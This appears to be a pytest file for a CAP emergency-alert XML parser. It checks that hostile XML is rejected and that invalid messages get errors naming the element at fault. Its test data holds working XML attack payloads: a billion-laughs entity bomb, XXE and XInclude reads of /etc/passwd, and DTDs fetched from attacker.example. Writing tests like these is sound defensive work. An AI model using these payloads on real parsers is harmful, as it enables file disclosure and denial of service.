"""Parsing and validating CAP from outside: hostile XML is rejected without being expanded,
and every invalid message gets an error naming the element at fault."""

from __future__ import annotations

import time

import pytest
from cap_support import CAP12, START, info, message

from tocsin.cap.errors import CapInvalid, CapTooLarge
from tocsin.cap.parse import MAX_BYTES, parse, parse_references, read
from tocsin.cap.validate import Problem, check, problems

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""
XINCLUDE = message(
    extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
    'href="file:///etc/passwd" parse="text"/>'
)


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS,
        XXE,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16"),
    ],
    ids=["billion-laughs", "xxe-file", "external-dtd", "parameter-entity", "xxe-utf16"],
)
def test_hostile_xml_is_rejected_before_anything_is_expanded(data: bytes) -> None:
    began = time.monotonic()
    with pytest.raises(CapInvalid) as err:
        parse(data)
    assert time.monotonic() - began < 1
    assert "DOCTYPE" in err.value.message
    assert err.value.field == "alert"
    assert "root:" not in err.value.message  # nothing of /etc/passwd


def test_xinclude_is_never_processed_and_fails_the_schema() -> None:
    root = parse(XINCLUDE)
    assert b"root:" not in XINCLUDE
    with pytest.raises(CapInvalid) as err:
        check(root)
    assert err.value.field == "include"


def test_oversized_messages_are_refused_unread() -> None:
    data = message(extra="<!--" + "x" * MAX_BYTES + "-->")
    with pytest.raises(CapTooLarge) as err:
        parse(data)
    assert err.value.status == 413


@pytest.mark.parametrize(
    ("data", "field", "words"),
    [
        (b"", "alert", "empty"),
        (b"not xml at all", "alert", "not well-formed"),
        (
            b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><identifier>",
            "alert",
            "not well-formed",
        ),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "feed", "<alert>"),
        (b"<alert xmlns='urn:oasis:names:tc:emergency:alerts:1.2'/>", "alert", "namespace"),
        (b"<alert/>", "alert", "namespace"),
    ],
)
def test_what_is_not_a_cap_message(data: bytes, field: str, words: str) -> None:
    with pytest.raises(CapInvalid) as err:
        parse(data)
    assert err.value.field == field
    assert words in err.value.message


@pytest.mark.parametrize(
    ("data", "field", "words"),
    [
        (message().replace(b"<scope>Public</scope>", b""), "info", "scope"),
        (message().replace(b"<status>Actual</status>", b"<status>Real</status>"), "status", "Real"),
        (message(sent=START).replace(b"+00:00</sent>", b"Z</sent>"), "sent", "sent"),
        (message().replace(b"<urgency>Immediate</urgency>", b""), "info/severity", "urgency"),
        (message(identifier="has space"), "identifier", "spaces"),
        (message(sender="a,b"), "sender", "commas"),
        (message(msg_type="Update"), "msgType", "references"),
        (
            message(msg_type="Cancel").replace(b"<info>", b"<references> </references><info>"),
            "references",
            "needs references",
        ),
        (
            message(msg_type="Update").replace(b"<info>", b"<references>a,b</references><info>"),
            "references",
            "malformed",
        ),
        (message(scope="Private"), "scope", "addresses"),
        (
            message(
                infos=[
                    info(
                        areas=["<area><areaDesc>x</areaDesc><polygon>1,1 2,2 1,1</polygon></area>"]
                    )
                ]
            ),
            "info/area/polygon",
            "at least 4",
        ),
        (
            message(
                infos=[info(areas=["<area><areaDesc>x</areaDesc><circle>91,1 5</circle></area>"])]
            ),
            "info/area/circle",
            "outside",
        ),
        (
            message(
                infos=[
                    info(),
                    info()
                    .replace(b"<event>".decode(), "<event>")
                    .replace(
                        "</description>",
                        "</description><parameter><valueName>"
                        "CMAMtext</valueName><value>" + "x" * 91 + "</value>"
                        "</parameter>",
                    ),
                ]
            ),
            "info[2]/parameter",
            "at most 90",
        ),
    ],
)
def test_invalid_messages_name_the_element_at_fault(data: bytes, field: str, words: str) -> None:
    root = parse(data)
    with pytest.raises(CapInvalid) as err:
        check(root)
    assert err.value.field == field, err.value.message
    assert words in err.value.message


def test_every_problem_is_listed_with_its_line() -> None:
    data = message(identifier="a b", sender="c,d")
    found = problems(data)
    assert [p.field for p in found] == ["identifier", "sender"]
    assert all(p.line for p in found)
    assert str(found[0]).startswith("identifier: ")
    assert problems(b"<x") == [Problem("alert", found_message(b"<x"))]


def found_message(data: bytes) -> str:
    with pytest.raises(CapInvalid) as err:
        parse(data)
    return err.value.message


def test_cap_1_0_is_refused_clearly() -> None:
    data = message(namespace="http://www.incident.com/cap/1.0")
    with pytest.raises(CapInvalid) as err:
        check(parse(data))
    assert "CAP 1.0 is not supported" in err.value.message


def test_cap_1_1_is_validated_against_its_own_schema() -> None:
    data = message(namespace="urn:oasis:names:tc:emergency:cap:1.1")
    root = parse(data)
    check(root)
    assert read(root).version == "1.1"


def test_read_gives_the_plain_values() -> None:
    data = message(
        "id-1",
        msg_type="Update",
        note="see below",
        references=[("s@x", "id-0", START)],
        infos=[info(event_code=("tocsin", "TOCSIN-UAV"))],
    )
    msg = read(parse(data))
    assert (msg.identifier, msg.sender, msg.sent, msg.status, msg.msg_type, msg.scope) == (
        "id-1",
        "cap@kharkiv.example.ua",
        START,
        "Actual",
        "Update",
        "Public",
    )
    assert msg.note == "see below"
    assert [r.triple() for r in msg.references] == ["s@x,id-0,2026-03-01T12:00:00+00:00"]
    (only,) = msg.infos
    assert only.path == "info" and only.event_codes == (("tocsin", "TOCSIN-UAV"),)
    assert only.areas[0].geocodes == (("ISO3166-2", "UA-63"),)
    assert msg.infos[0].language == "en-US"
    assert CAP12 in data.decode()


@pytest.mark.parametrize("text", ["a,b", "a,b,c", "a,b,2026-01-01T00:00:00", ",b,2026-01-01"])
def test_malformed_references(text: str) -> None:
    with pytest.raises(ValueError):
        parse_references(text)
